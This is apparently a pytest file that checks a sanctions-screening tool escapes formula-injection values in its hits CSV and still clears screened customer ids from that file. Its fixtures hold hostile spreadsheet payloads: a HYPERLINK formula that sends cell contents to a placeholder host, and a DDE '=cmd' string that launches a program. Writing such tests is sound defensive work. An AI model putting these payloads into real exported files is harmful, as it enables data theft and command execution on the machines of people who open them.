"""The hits CSV of `screen batch` is opened in a spreadsheet: a customer id from the bank's
file and a listed entry's name from a list source that open a formula (`=HYPERLINK(…)`,
`@SUM(…)`) were written raw and ran in Excel (CWE-1236). They are now marked as text with
`'`; `screen clear --file` from that hits file clears the ids as screened; Parquet stays raw."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pyarrow.parquet as pq

from case_story import ok
from jalur.config import Settings

EVIL_NAME = '=HYPERLINK("http://x/?"&A1,"Umar Patek")'
EVIL_ALIAS = "@Omar Patek"
EVIL_ID = "=cmd|' /C calc'!A0"


def _workspace(tmp_path: Path) -> Settings:
    """A list source's entry whose name and alias open formulas, and a customer file whose id
    opens one."""
    listed = {"id": "un-patek", "schema": "Person",
              "properties": {"name": [EVIL_NAME], "alias": [EVIL_ALIAS, "Umar Patek"],
                             "topics": ["crime.terror"]}}  # fmt: skip
    (tmp_path / "un.ftm.json").write_text(json.dumps(listed) + "\n", encoding="utf-8")
    settings = Settings.resolve(tmp_path / "home")
    ok(settings, "lists", "load", str(tmp_path / "un.ftm.json"), "--format", "ftm")
    with (tmp_path / "customers.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["id", "name"], [EVIL_ID, "Umar Patek"], ["C2", "Budi"]])
    return settings


def _batch(settings: Settings, tmp_path: Path, out: str) -> Path:
    ok(settings, "screen", "batch", str(tmp_path / "customers.csv"), "--out", str(tmp_path / out))
    return tmp_path / out


def test_hostile_customer_and_list_names_are_inert_in_the_hits_csv(tmp_path: Path) -> None:
    hits_csv = _batch(_workspace(tmp_path), tmp_path, "hits.csv")
    with hits_csv.open(encoding="utf-8", newline="") as handle:
        [hit] = list(csv.DictReader(handle))
    assert hit["id"] == "'" + EVIL_ID
    assert hit["caption"] == "'" + EVIL_NAME
    assert hit["matched_alias"] in ("Umar Patek", "'" + EVIL_ALIAS)
    assert float(hit["score"]) > 0.7  # a number column stays a number
    every_cell = [cell for cell in hit.values() if cell]
    assert not [cell for cell in every_cell if cell[0] in "=+-@\t\r"]


def test_parquet_hits_keep_the_raw_values(tmp_path: Path) -> None:
    [hit] = pq.read_table(_batch(_workspace(tmp_path), tmp_path, "hits.parquet")).to_pylist()
    assert (hit["id"], hit["caption"]) == (EVIL_ID, EVIL_NAME)


def test_clearing_from_the_hits_csv_clears_the_id_that_was_screened(tmp_path: Path) -> None:
    settings = _workspace(tmp_path)
    hits_csv = _batch(settings, tmp_path, "hits.csv")
    with hits_csv.open(encoding="utf-8", newline="") as handle:
        [hit] = list(csv.DictReader(handle))
    assert hit["id"] == "'" + EVIL_ID  # as the analyst sees it
    decisions = tmp_path / "decisions.csv"
    with decisions.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [["customer", "entity", "reason"], [hit["id"], hit["entity_id"], "born 1990"]]
        )
    cleared = json.loads(ok(settings, "screen", "clear", "--file", str(decisions), "--json"))
    assert (cleared["recorded"], cleared["rejected"]) == (1, 0), cleared["errors"]
    assert cleared["decisions"][0]["customer_id"] == EVIL_ID
    again = _batch(settings, tmp_path, "again.csv")
    assert again.read_text(encoding="utf-8").count("\n") == 1  # header only: the hit is cleared
